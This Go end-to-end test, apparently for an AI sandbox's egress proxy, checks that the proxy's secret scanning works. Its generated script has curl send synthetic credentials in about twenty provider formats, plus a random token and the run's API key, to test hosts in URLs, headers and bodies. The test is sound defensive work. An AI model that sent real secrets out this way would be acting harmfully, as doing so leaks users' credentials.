package e2e

import (
	"crypto/rand"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/egress"
)

// rep repeats s to n characters. Tokens are built from parts at run time,
// low in entropy, so that no literal here looks like a real credential.
func rep(s string, n int) string { return strings.Repeat(s, n/len(s)+1)[:n] }

// scanFormats are one credential format of each family issue 13 found
// passing, with a token in the provider's documented shape and a near miss
// (the same copies as internal/egress/rules_test.go).
func scanFormats() []struct{ rule, token, nearMiss string } {
	hex32 := rep("a1b2c3d4e5f6", 32)
	return []struct{ rule, token, nearMiss string }{
		{"stripe-secret-key", "sk_" + "live_" + rep("a1B2", 24), "sk_" + "lime_" + rep("a1B2", 24)},
		{"huggingface-token", "hf_" + rep("AbCd", 34), "hf_" + rep("AbCd", 20)},
		{"sendgrid-api-key", "SG." + rep("Ab1_", 22) + "." + rep("Ab1_", 43), "SG." + rep("Ab1_", 10) + "." + rep("Ab1_", 43)},
		{"twilio-api-key", "SK" + hex32, "SK" + hex32[:20]},
		{"digitalocean-token", "dop_" + "v1_" + rep("a1b2", 64), "dop_" + "v2_" + rep("a1b2", 64)},
		{"shopify-access-token", "shpat_" + hex32, "shpat_" + rep("xyzw", 32)},
		{"gitlab-pat", "glpat-" + rep("Ab1_", 20), "glpat-" + rep("Ab1_", 10)},
		{"mailgun-api-key", "key-" + hex32, "key-" + rep("xyzw", 32)},
		{"azure-storage-account-key", "AccountName=acct;" + "AccountKey=" + rep("Ab1+", 86) + "==", "AccountName=acct;AccountKey=" + rep("Ab1", 20)},
		{"newrelic-user-api-key", "NRAK-" + rep("A1B2", 27), "NRAK-" + rep("a1b2", 27)},
		{"linear-api-key", "lin_api_" + rep("Ab1c", 40), "lin_api_" + rep("Ab1c", 20)},
		{"doppler-token", "dp.pt." + rep("Ab1c", 43), "dp.xx." + rep("Ab1c", 43)},
		{"postman-api-key", "PMAK-" + rep("a1b2", 24) + "-" + rep("a1b2", 34), "PMAK-" + rep("a1b2", 24)},
		{"databricks-token", "dapi" + hex32, "dapi" + rep("xyzw", 32)},
		{"pulumi-access-token", "pul-" + rep("a1b2", 40), "pul-" + rep("a1b2", 20)},
		{"grafana-service-account-token", "glsa_" + rep("Ab1c", 32) + "_" + rep("a1b2", 8), "glsa_" + rep("Ab1c", 20) + "_" + rep("a1b2", 8)},
		{"telegram-bot-token", "123456789:" + "AA" + rep("Ab1_", 33), "123456789:" + "BB" + rep("Ab1_", 33)},
		{"square-access-token", "EAAA" + rep("a1B2_", 60), "EAAB" + rep("a1B2_", 60)},
		{"age-secret-key", "AGE-SECRET-KEY-" + "1" + rep("QPZRY9X8GF", 58), "AGE-SECRET-KEY-" + "1" + rep("QPZRB", 58)},
		{"postgres-url-with-password", "postgres://" + "app:" + "pw" + rep("x1", 10) + "@db.internal:5432/app", "postgres://app@db.internal:5432/app"},
	}
}

// randomToken40 is 40 distinct base62 characters in random order, mixing
// upper case, lower case and digits: a random secret of no known format.
func randomToken40() string {
	const a62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	for {
		b := []byte(a62)
		for i := len(b) - 1; i > 0; i-- {
			j, _ := rand.Int(rand.Reader, big.NewInt(int64(i+1)))
			b[i], b[j.Int64()] = b[j.Int64()], b[i]
		}
		tok := string(b[:40])
		if strings.ContainsAny(tok, "ABCDEFGHIJKLMNOPQRSTUVWXYZ") && strings.ContainsAny(tok, "abcdefghijklmnopqrstuvwxyz") && strings.ContainsAny(tok, "0123456789") {
			return tok
		}
	}
}

// scanServer is the allowed plain-HTTP upstream, on the host's address on
// the engine's bridge: it records every request it gets, whole.
type scanServer struct {
	port int
	mu   sync.Mutex
	seen []string
}

func startScanServer(t *testing.T, addr string) *scanServer {
	t.Helper()
	ln, err := net.Listen("tcp", addr+":0")
	if err != nil {
		t.Fatal(err)
	}
	s := &scanServer{port: ln.Addr().(*net.TCPAddr).Port}
	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		var h strings.Builder
		r.Header.Write(&h)
		s.mu.Lock()
		s.seen = append(s.seen, r.Host+" "+r.RequestURI+"\n"+h.String()+"\n"+string(b))
		s.mu.Unlock()
		fmt.Fprintln(w, "upstream-ok")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return s
}

// to is every request the server got for host, or for any host ("").
func (s *scanServer) to(host string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, r := range s.seen {
		if host == "" || strings.HasPrefix(r, host+":") {
			out = append(out, r)
		}
	}
	return strings.Join(out, "\n----\n")
}

// scanCase is one request the agent makes: a path that names it, the
// curl arguments, and what the proxy must do.
type scanCase struct {
	host, path string
	args       string // curl arguments: -G --data-urlencode, -H, --data-binary @file
	deny       string // the refusal's reason; "" passes
	scan       string // the audit record's scan field
	secret     string // must reach neither the audit log nor, when denied, the upstream
}

// Secret scanning from a real sandbox (issue 13): the real Claude Code,
// driven by the scripted model, runs curl against an allowed plain-HTTP
// host. A token of each format family is refused in the URL, a header
// and the body with the rule's name; each near miss passes; a 40-character
// random token is refused by entropy; per-host modes log or skip, but the
// run's own key is refused everywhere; the audit log names the rules and
// holds no token, and nothing refused reaches the upstream.
func TestHostileScan(t *testing.T) {
	onEngines(t, []engineKind{onDocker, onPodman}, hostileScan)
}

func hostileScan(t *testing.T, e *env) {
	gw := e.gateway()
	up := startScanServer(t, gw)
	held := "sk-ant-api03-" + randHex(80)
	random := randomToken40()

	var cases []scanCase
	var files []string
	file := func(content string) string {
		name := fmt.Sprintf("body%d.txt", len(files))
		e.write(name, content)
		files = append(files, name)
		return name
	}
	for _, f := range scanFormats() {
		p := "/" + f.rule
		cases = append(cases,
			scanCase{"plain.test", p + "/url", "-G --data-urlencode k@" + file(f.token), `secret scan: ` + f.rule + ` in query value "k"`, "", f.token},
			scanCase{"plain.test", p + "/header", "-H @" + file("X-Data: "+f.token), "secret scan: " + f.rule + " in header X-Data", "", f.token},
			scanCase{"plain.test", p + "/body", "--data-binary @" + file(`{"config":"`+f.token+`"}`), "secret scan: " + f.rule + " in body", "", f.token},
			scanCase{"plain.test", p + "/near-url", "-G --data-urlencode k@" + file(f.nearMiss), "", "", ""},
			scanCase{"plain.test", p + "/near-header", "-H @" + file("X-Data: "+f.nearMiss), "", "", ""},
			scanCase{"plain.test", p + "/near-body", "--data-binary @" + file(`{"config":"`+f.nearMiss+`"}`), "", "", ""},
		)
	}
	stripe := scanFormats()[0].token
	cases = append(cases,
		scanCase{"plain.test", "/entropy/url", "-G --data-urlencode k=" + random, `secret scan: high-entropy-token in query value "k"`, "", random},
		scanCase{"plain.test", "/entropy/path/" + random, "", "secret scan: high-entropy-token in URL path", "", random},
		scanCase{"plain.test", "/entropy/header", "-H X-Trace:" + random, "secret scan: high-entropy-token in header X-Trace", "", random},
		scanCase{"logged.test", "/logged", "-G --data-urlencode k@" + file(stripe), "", `logged, not blocked (scan = "log"): stripe-secret-key in query value "k"`, ""},
		scanCase{"trusted.test", "/off", "--data-binary @" + file(stripe), "", "", ""},
		scanCase{"trusted.test", "/off-held", "-G --data-urlencode k=" + held, `secret scan: held-secret in query value "k"`, "", held},
		scanCase{"logged.test", "/logged-held", "-H X-Key:" + held, "secret scan: held-secret in header X-Key", "", held},
	)

	var script strings.Builder
	script.WriteString("P=http://127.0.0.1:3128\n")
	for i, c := range cases {
		// %{http_code} and the denial header, one line per request.
		fmt.Fprintf(&script, "code=$(curl -sS -m 20 -x $P --noproxy '' -o /dev/null -D h%d.txt -w '%%{http_code}' %s 'http://%s:%d%s' 2>&1); echo \"%d $code $(grep -i '^x-airlock-denied:' h%d.txt | tr -d '\\r')\"\n",
			i, c.args, c.host, up.port, c.path, i, i)
	}
	e.write("scan.sh", script.String())
	e.write(".airlock/config.toml", fmt.Sprintf(`[egress]
allow = ["plain.test:%[2]d", "logged.test:%[2]d", "trusted.test:%[2]d"]
extra_hosts = ["plain.test:%[1]s", "logged.test:%[1]s", "trusted.test:%[1]s"]
allow_cidrs = ["%[1]s/32"]
`, gw, up.port))
	// Relaxing the scan is the user's to do, not the repository's.
	userConfig(t, e, `
[egress]
scan_log = ["logged.test"]
scan_off = ["trusted.test"]
`)
	e.git("add", ".")
	e.git("commit", "-qm", "scan attempts")

	// A repository cannot turn the scan off for its own exfiltration.
	e.write(".airlock/config.toml", fmt.Sprintf("[egress]\nallow = [\"plain.test:%d\"]\nscan = \"off\"\n", up.port))
	e.server(runScript("never", "echo never"))
	if res := e.airlock("run", "-y", "-m", "x", "--name", "noscan"); res.code == 0 ||
		!strings.Contains(res.stderr, ".airlock/config.toml:3: egress.scan: a repository's own config may make secret scanning stricter, not looser") {
		t.Errorf("a repository's scan = \"off\": exit %d\n%s", res.code, res.stderr)
	}
	if runs := e.runs(); len(runs) != 0 {
		t.Fatalf("the refused config made %d runs", len(runs))
	}
	e.git("checkout", "--", ".airlock/config.toml")

	e.server(runScript("scan", "sh scan.sh > results.txt 2>&1; echo finished"))
	setAPIKey(e, held)
	e.ok("run", "-y", "-m", "Send the tokens.", "--name", "scan")
	r := e.runs()[0]
	ws := filepath.Join(e.state, "airlock", "runs", r.ID, "workspace")
	results, err := os.ReadFile(filepath.Join(ws, "results.txt"))
	if err != nil {
		t.Fatalf("the script did not run: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(results)), "\n")
	if len(lines) != len(cases) {
		t.Fatalf("%d result lines for %d requests:\n%s", len(lines), len(cases), results)
	}
	recs := auditRecords(t, e.state, r.ID)
	byPath := map[string]egress.Record{}
	for _, rec := range recs {
		if rec.Kind == egress.KindHTTP {
			byPath[rec.Host+" "+rec.Path] = rec
		}
	}
	for i, c := range cases {
		got := lines[i]
		wantCode := "200"
		if c.deny != "" {
			wantCode = "403"
		}
		if f := strings.Fields(got); len(f) < 2 || f[0] != fmt.Sprint(i) || f[1] != wantCode || c.deny != "" && !strings.Contains(got, c.deny) {
			t.Errorf("%s%s: got %q, want %s %s", c.host, c.path, got, wantCode, c.deny)
		}
		path := c.path
		if strings.Contains(c.deny, "in URL path") {
			path = "[redacted]"
		}
		rec, ok := byPath[c.host+" "+path]
		switch {
		case !ok:
			t.Errorf("%s%s: no audit record", c.host, c.path)
		case c.deny != "" && (rec.Allowed || rec.Reason != c.deny || !strings.HasPrefix(c.deny, "secret scan: "+rec.Rule+" ")):
			t.Errorf("%s%s: record allowed=%v rule=%q reason=%q, want %q", c.host, c.path, rec.Allowed, rec.Rule, rec.Reason, c.deny)
		case c.deny == "" && (!rec.Allowed || rec.Scan != c.scan):
			t.Errorf("%s%s: record allowed=%v scan=%q reason=%q, want allowed, scan %q", c.host, c.path, rec.Allowed, rec.Scan, rec.Reason, c.scan)
		}
	}
	log, _ := os.ReadFile(filepath.Join(e.state, "airlock", "runs", r.ID, "egress", "egress.jsonl"))
	seen := up.to("")
	for _, c := range cases {
		if c.secret == "" {
			continue
		}
		// Test tokens repeat a short pattern, which near misses share:
		// the whole token is what must not appear.
		if strings.Contains(string(log), c.secret) {
			t.Errorf("the audit log holds the token of %s%s", c.host, c.path)
		}
		// (The stripe token legitimately reaches logged.test and
		// trusted.test, whose modes let it through.)
		if to := up.to(c.host); strings.Contains(to, c.secret) || strings.Contains(to, fmt.Sprintf(" %s\n", c.path)) ||
			strings.Contains(to, fmt.Sprintf(" %s?", c.path)) {
			t.Errorf("the upstream received the refused request %s%s", c.host, c.path)
		}
	}
	if strings.Contains(string(log), random[10:30]) {
		t.Error("the audit log holds part of the random token")
	}
	shown := e.ok("egress", r.ID).stdout
	if !strings.Contains(shown, "secret scan: sendgrid-api-key in body") ||
		!strings.Contains(shown, `[secret scan: logged, not blocked (scan = "log"): stripe-secret-key in query value "k"]`) {
		t.Errorf("airlock egress does not show the scan's refusals and logged hits:\n%s", tail(shown, 20))
	}
	for _, c := range cases {
		if c.secret != "" && strings.Contains(shown, c.secret) {
			t.Errorf("airlock egress shows the token of %s%s", c.host, c.path)
		}
	}
	if !strings.Contains(seen, scanFormats()[0].nearMiss) || !strings.Contains(seen, "/off") {
		t.Errorf("the upstream did not get the requests that pass; the test proves nothing:\n%.2000s", seen)
	}
}
